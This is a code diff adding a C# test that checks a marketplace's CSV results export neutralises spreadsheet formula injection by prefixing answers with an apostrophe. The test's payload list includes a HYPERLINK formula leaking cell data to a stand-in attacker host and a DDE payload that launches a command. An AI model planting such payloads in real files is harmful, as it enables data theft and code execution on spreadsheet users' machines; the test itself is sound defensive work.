@@ -126,6 +126,32 @@ public abstract class JobResultsTests(MarketplaceAppFactory app)
     }
 
     [Fact]
+    public async Task CsvExport_WritesAnswersASpreadsheetWouldRunAsFormulas_AsText()
+    {
+        var (buyer, browser) = await app.SignedInAsync(Roles.Buyer);
+        string[] attacks = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1"];
+        var job = await app.ActiveJobAsync(items: attacks.Length, type: TaskType.FreeText, redundancy: 1, organizationId: buyer.OrganizationId);
+        foreach (var attack in attacks)
+        {
+            await app.LabelAsync(await app.ContributorAsync(qualifiedFor: [TaskType.FreeText]), job.Id, attack);
+        }
+
+        var csv = await browser.Client.GetStringAsync($"/api/jobs/{job.Id}/results?format=csv");
+        using var reader = new CsvHelper.CsvReader(new StringReader(csv), System.Globalization.CultureInfo.InvariantCulture);
+        var answers = new List<string>();
+        await reader.ReadAsync();
+        reader.ReadHeader();
+        while (await reader.ReadAsync())
+        {
+            answers.Add(reader.GetField("answer")!);
+            Assert.All(Enumerable.Range(0, reader.ColumnCount), i => Assert.DoesNotMatch(@"^[=+\-@\t\r]", reader.GetField(i)!));
+        }
+
+        // Each answer is still there, whole, behind the apostrophe that makes a spreadsheet show it as text.
+        Assert.Equal(attacks.Select(a => "'" + a).Order(), answers.Order());
+    }
+
+    [Fact]
     public async Task Ranking_OfAPairwiseJob_OrdersTheComparedOptionsByBradleyTerry()
     {
         var (buyer, browser) = await app.SignedInAsync(Roles.Buyer);
